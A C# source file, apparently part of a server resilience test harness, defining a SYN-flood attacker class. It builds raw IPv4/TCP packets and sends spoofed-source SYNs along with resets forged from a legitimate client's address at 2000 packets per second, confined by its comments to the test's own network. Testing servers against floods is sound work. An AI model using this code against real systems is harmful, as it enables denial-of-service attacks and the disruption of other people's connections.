using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;

namespace FastPort.Comparisons.Hostile;

/// <summary>
/// Packets with sources that nobody has: SYNs that no ACK follows, and resets that belong to nothing. They need a raw socket, which is
/// root's, and are sent within a network of the test's own only.
/// </summary>
internal sealed class SynFlood : IAttacker
{
    private const int PacketsASecond = 2000;
    private const int BatchesASecond = 20;
    private const int IpBytes = 20;
    private const int TcpBytes = 20;
    private const byte Syn = 0x02;
    private const byte Rst = 0x04;

    public string Name => "syn-flood";

    public string Description => FormattableString.Invariant(
        $"SYNs from addresses that nobody has, and resets from a good client's address; {PacketsASecond} packets/s");

    public async Task RunAsync(AttackTarget target, AttackCount count, CancellationToken ending)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw) { Blocking = false };
        socket.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, optionValue: true);
        using var timer = new PeriodicTimer(TimeSpan.FromSeconds(1.0 / BatchesASecond));
        var to = new IPEndPoint(target.Tcp.Address, 0);
        byte[] good = IPAddress.Parse(HostileAddresses.Of(target.Plan.Network, HostileAddresses.Good)).GetAddressBytes();
        while (!ending.IsCancellationRequested)
        {
            await timer.WaitForNextTickAsync(ending).AsTask().ContinueWith(static _ => { }, TaskScheduler.Default);
            for (int i = 0; i < PacketsASecond / BatchesASecond; i++)
            {
                byte[] forged = [.. good];
                forged[3] = (byte)(HostileAddresses.FirstForged + RandomNumberGenerator.GetInt32(HostileAddresses.ForgedCount));
                byte[] packet = i % 10 == 0 ? Packet(good, target.Tcp, Rst) : Packet(forged, target.Tcp, Syn);
                count.Begin();
                Send(socket, packet, to, count);
                count.End();
            }
        }
    }

    /// <summary>An IPv4 packet with a TCP segment of no data.</summary>
    public static byte[] Packet(byte[] source, IPEndPoint server, byte flags)
    {
        byte[] packet = new byte[IpBytes + TcpBytes];
        Span<byte> tcp = packet.AsSpan(IpBytes);
        packet[0] = 0x45;
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), (ushort)packet.Length);
        packet[8] = 64;
        packet[9] = (byte)ProtocolType.Tcp;
        source.CopyTo(packet, 12);
        server.Address.GetAddressBytes().CopyTo(packet, 16);
        BinaryPrimitives.WriteUInt16BigEndian(tcp, (ushort)RandomNumberGenerator.GetInt32(1024, 65536));
        BinaryPrimitives.WriteUInt16BigEndian(tcp[2..], (ushort)server.Port);
        RandomNumberGenerator.Fill(tcp.Slice(4, 4));
        tcp[12] = (TcpBytes / 4) << 4;
        tcp[13] = flags;
        BinaryPrimitives.WriteUInt16BigEndian(tcp[14..], 64_240);
        BinaryPrimitives.WriteUInt16BigEndian(tcp[16..], Checksum(packet));
        return packet;
    }

    private static void Send(Socket socket, byte[] packet, IPEndPoint to, AttackCount count)
    {
        try
        {
            socket.SendTo(packet, to);
        }
        catch (SocketException)
        {
            // No room for it: the rate is a bound.
            count.Refuse();
        }
    }

    // Over the pseudo header (both addresses, protocol, length) and the segment. The kernel fills in that of the IP header.
    private static ushort Checksum(ReadOnlySpan<byte> packet)
    {
        uint sum = (uint)ProtocolType.Tcp + TcpBytes;
        for (int i = 12; i < packet.Length; i += 2)
        {
            sum += BinaryPrimitives.ReadUInt16BigEndian(packet[i..]);
        }

        while (sum > ushort.MaxValue)
        {
            sum = (sum & ushort.MaxValue) + (sum >> 16);
        }

        return (ushort)~sum;
    }
}
